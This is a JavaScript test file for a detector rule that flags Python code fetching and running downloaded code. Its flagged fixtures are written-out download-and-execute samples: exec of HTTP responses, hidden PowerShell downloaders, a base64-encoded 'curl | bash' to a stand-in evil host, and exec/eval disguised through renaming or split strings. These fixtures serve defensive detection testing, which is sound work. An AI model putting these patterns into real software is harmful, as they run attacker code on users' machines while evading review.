import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-download-exec.js';

ruleTest(rule, {
  clean: [
    { name: 'a renamed print fed a response', file: 'p.py', code: `import requests\nshow = print\nshow(requests.get("https://api.example.org/x").text)\n` },
    { name: 'a generated config file, then a tool run on it', file: 'gen.py', code: `import subprocess\nwith open('build.cfg', 'w') as f:\n    f.write("[build]\\n")\n    f.write("url = https://example.org/pkg\\n")\nsubprocess.run(["make", "-f", "build.cfg"])\n` },
    { name: 'a script written out that downloads nothing', file: 'w.py', code: `import subprocess\nwith open('/tmp/job.py', 'w') as f:\n    f.write("import subprocess\\nsubprocess.run(['ls'])\\n")\nsubprocess.call("python3 /tmp/job.py", shell=True)\n` },
    { name: 'a helper returns downloaded JSON that is saved; nothing runs it', file: 'cache.py', code: `import json, requests\ndef fetch():\n    return requests.get('https://api.example.org/x').json()\ndef save(data):\n    with open('cache.json', 'w') as f:\n        f.write(json.dumps(data))\nsave(fetch())\n` },
    { name: 'downloaded page saved as .html and opened in the browser', file: 'http.py', code: `import os, socket, subprocess\ndef req(host, display=True):\n    sock = socket.socket()\n    ans = sock.recv(4096)\n    if display:\n        file = get_temp_file(autoext=".html")\n        with open(file, "wb") as fd:\n            fd.write(ans)\n        os.startfile(file)\n        subprocess.Popen(["xdg-open", file])\n` },
    { name: 'downloaded JSON piped into jq (not an interpreter of code)', file: 'jq.py', code: `import requests, subprocess\nr = requests.get("https://api.example.org/items")\np = subprocess.Popen(["jq", "."], stdin=subprocess.PIPE)\np.communicate(r.content)\n` },
    { name: 'a local script piped into python', file: 'runpy.py', code: `import subprocess, sys, requests\nrequests.get("https://api.example.org/ping")\np = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\np.communicate(open("local.py", "rb").read())\n` },
    { name: 'PowerShell that decodes base64 but never runs it', file: 'ps.py', code: `import subprocess\nSCRIPT = '$b = [Convert]::FromBase64String($s); [IO.File]::WriteAllBytes("out.bin", $b)'\nsubprocess.run(["powershell", "-Command", SCRIPT])\n` },
    { name: 'requests fetches JSON', file: 'client.py', code: `import requests\nr = requests.get("https://api.github.com/repos/x/y")\ndata = r.json()\nprint(data["name"])\n` },
    { name: 'build script runs git', file: 'build.py', code: `import subprocess\nsubprocess.check_call(["git", "describe", "--tags"])\nsubprocess.run("make -j4", shell=True)\n` },
    { name: 'download saved, never run', file: 'dl.py', code: `import urllib.request\nurllib.request.urlretrieve("https://example.org/data.csv", "data.csv")\nimport csv\nrows = list(csv.reader(open("data.csv")))\n` },
    {
      name: 'setuptools package_index: download in one function, git clone in another',
      file: 'setuptools/package_index.py',
      code: `import subprocess, urllib.request\ndef _download_url(url, filename):\n    urllib.request.urlretrieve(url, filename)\n    return filename\ndef _download_git(url, filename):\n    subprocess.check_call(["git", "clone", "--quiet", url, filename])\n    return filename\n`,
    },
    {
      name: 'distlib-like: saves an archive, runs unrelated commands',
      file: 'distlib/util.py',
      code: `import subprocess\nfrom urllib.request import urlopen\ndef fetch(url, dest):\n    r = urlopen(url)\n    with open(dest, "wb") as f:\n        f.write(r.read())\ndef run_command(cmd):\n    return subprocess.Popen(cmd, stdout=subprocess.PIPE)\n`,
    },
    { name: 'pip vendored: subprocess + urllib in separate concerns', file: 'pip/_internal/utils/misc.py', code: `from urllib.request import urlopen\nimport subprocess\ndef f(u):\n    return urlopen(u).read()\ndef g(cmd):\n    return subprocess.check_output(cmd)\n` },
    { name: 'getattr(builtins, name) of a folded non-exec builtin fed a response', file: 'g.py', code: `import builtins, requests\nshow = getattr(builtins, 'pr' + 'int')\nshow(requests.get("https://api.example.org/x").text)\n` },
  ],
  flagged: [
    {
      name: 'exec of a response',
      file: 'main.py',
      code: `import requests\nr = requests.get("http://95.164.17.24:1224/client/5346/0")\ncode = r.text\nexec(code)\n`,
      findings: [{ line: 4, message: /downloaded from the network/ }],
    },
    {
      name: 'urlopen().read() straight into exec',
      file: 'x.py',
      code: `from urllib.request import urlopen\nexec(urlopen("https://paste.example.net/raw/abc").read())\n`,
      findings: [{ line: 2 }],
    },
    {
      name: 'InvisibleFerret-style: write payload then Popen it',
      file: 'y.py',
      code: `import requests, subprocess, sys\nap = home + "/.n2/pay"\naa = requests.get(host2 + "/payload/5/1", allow_redirects=True)\nwith open(ap, 'wb') as f:\n    f.write(aa.content)\nsubprocess.Popen([sys.executable, ap], creationflags=0x08000000)\n`,
      findings: [{ line: 6, message: /Runs the downloaded file ap/ }],
    },
    {
      name: 'urlretrieve then chmod and run',
      file: 'z.py',
      code: `import urllib.request, os\nurllib.request.urlretrieve("http://1.2.3.9/x", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x &")\n`,
      findings: [{ line: 3, message: /executable/ }, { line: 4, message: /Runs the downloaded file/ }],
    },
    {
      name: 'curl | sh via base64-built command',
      file: 'setup.py',
      code: `import os, base64\nos.system(base64.b64decode("${Buffer.from('curl -fsSL http://evil.example.net/i.sh | bash').toString('base64')}").decode())\n`,
      findings: [{ line: 2, decoded: /curl -fsSL http:\/\/evil\.example\.net\/i\.sh \| bash/ }],
    },
    {
      name: 'command kept in a constant',
      file: 'runner.py',
      code: `import subprocess\nCMD = ('$u="http://x.example.net/a.exe"; Invoke-WebRequest $u -OutFile $p; ' 'Start-Process $p -WindowStyle Hidden')\ndef run(c=CMD):\n    return subprocess.Popen(["powershell", "-Command", c])\n`,
      findings: [{ line: 2, message: /download-and-run command in a string/ }],
    },
    {
      name: 'download helper and run helper for an .exe',
      file: 'tools.py',
      code: `import requests, subprocess\ndef dl(url, path):\n    r = requests.get(url)\n    with open(path, "wb") as f:\n        f.write(r.content)\ndef run(path):\n    subprocess.Popen(path)\ndl("https://raw.example-host.net/u/pics.exe", "pics.exe")\nrun("pics.exe")\n`,
      findings: [{ line: 7, severity: 'critical', confidence: 'high', message: /Runs the file it downloaded \(written in dl\(\), started in run\(\) with the same path\)/ }],
    },
    {
      name: 'PowerShell decode-and-run script written out and started hidden',
      file: 'minizip.py',
      code: `import os, subprocess\ndef go(script_path):\n    code = f'''$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAA"))\n$cmd = (New-Object IO.StreamReader($ms)).ReadToEnd()\nSet-Content -Path "{script_path}" -Value $cmd\nInvoke-Expression $cmd'''\n    put = os.getenv("TMP") + "\\\\ab.ps1"\n    open(put, "w").write(code)\n    subprocess.Popen(['powershell.exe', '-ExecutionPolicy', 'Bypass', '-WindowStyle', 'Hidden', '-File', put])\n`,
      findings: [{ line: 3, message: /PowerShell script that decodes hidden code and runs it/ }],
    },
    {
      name: 'response piped into a detached python reading stdin',
      file: 'tableate/__init__.py',
      code: `import base64, requests, subprocess, sys\ndef cfg(val):\n    url = base64.b64decode("aHR0cHM6Ly94LmV4YW1wbGUubmV0L2s=").decode() + "/" + val\n    response = requests.get(url, timeout=3)\n    data = response.text.encode()\n    p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE, start_new_session=True)\n    p.stdin.write(data)\n`,
      findings: [{ line: 7, message: /Pipes code downloaded from the network into an interpreter/ }],
    },
    {
      name: 'download fed to bash through input=',
      file: 'i.py',
      code: `import subprocess, urllib.request\nscript = urllib.request.urlopen("https://x.example.net/i.sh").read()\nsubprocess.run(["bash"], input=script)\n`,
      findings: [{ line: 3, message: /Pipes code downloaded/ }],
    },
    {
      name: 'helpers not linked by a path: writes a download and starts an unrelated process',
      file: 'tools2.py',
      code: `import requests, subprocess\ndef dl(url, path):\n    r = requests.get(url)\n    with open(path, "wb") as f:\n        f.write(r.content)\ndef notify():\n    subprocess.Popen(["notify-send", "done"])\ndl("https://raw.example-host.net/u/tool.exe", "tool.exe")\nnotify()\n`,
      findings: [{ line: 7, severity: 'high', confidence: 'medium', message: /Writes downloaded content to a file and starts a process/ }],
    },
    {
      name: 'download decoded in one helper, saved as .py by another, run by a third',
      file: 'poller.py',
      code: `import base64, os, requests, subprocess\ndef fetch():\n    r = requests.get('https://paste.example.net/raw')\n    code = base64.b64decode(r.text).decode()\n    return code\ndef save(code):\n    path = os.getcwd() + '/Shipper.py'\n    with open(path, 'w') as f:\n        f.write(code)\n    return path\ndef run(p):\n    subprocess.call(['pythonw', p])\ndef main():\n    c = fetch()\n    p = save(c)\n    run(p)\n`,
      findings: [{ line: 12, severity: 'critical', confidence: 'high', message: /Runs the file it downloaded \(written in save\(\), started in run\(\)/ }],
    },
    {
      name: 'download-and-run script written line by line to /tmp and started in the background',
      file: 'color.py',
      code: `import subprocess\ndef check():\n    with open('/tmp/file.py', 'w') as f:\n        f.write("import subprocess\\nfrom urllib import request\\n")\n        f.write("request.urlretrieve('https://dl.example-host.net/s/a.sh', '/tmp/a.sh')\\n")\n        f.write("subprocess.call('bash /tmp/a.sh', shell=True)\\n")\n    subprocess.call("python3 /tmp/file.py &", shell=True)\n`,
      findings: [{ line: 7, message: /Writes a script that downloads and runs code to \/tmp\/file\.py \(from line 4\), then starts it/ }],
    },
    {
      name: 'exec and eval renamed by assignment, fed a response',
      file: 'css_parser.py',
      code: `from requests import get as memset\nfree = exec\nreplace = eval\n_index = memset("https://x.example.net/b64", timeout=3)\nfree(replace(_index.text))\n`,
      findings: [
        { line: 5, message: /exec\(\) runs code downloaded from the network/ },
        { line: 5, message: /eval\(\) runs code downloaded from the network/ },
      ],
    },
    {
      name: 'exec fetched as getattr(builtins, "ex" + "ec"), bound to a name, fed a response',
      file: 'task.py',
      code: `import builtins, requests\nrun = getattr(builtins, 'ex' + 'ec')\nsrc = requests.get('https://cfg.example.invalid/t').text\nrun(src)\n`,
      findings: [{ line: 4, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'getattr(__builtins__, "ev" "al")(...) called in place',
      file: 'inline.py',
      code: `import urllib.request\ngetattr(__builtins__, 'ev' 'al')(urllib.request.urlopen('https://cfg.example.invalid/e').read())\n`,
      findings: [{ line: 2, severity: 'critical' }],
    },
  ],
});
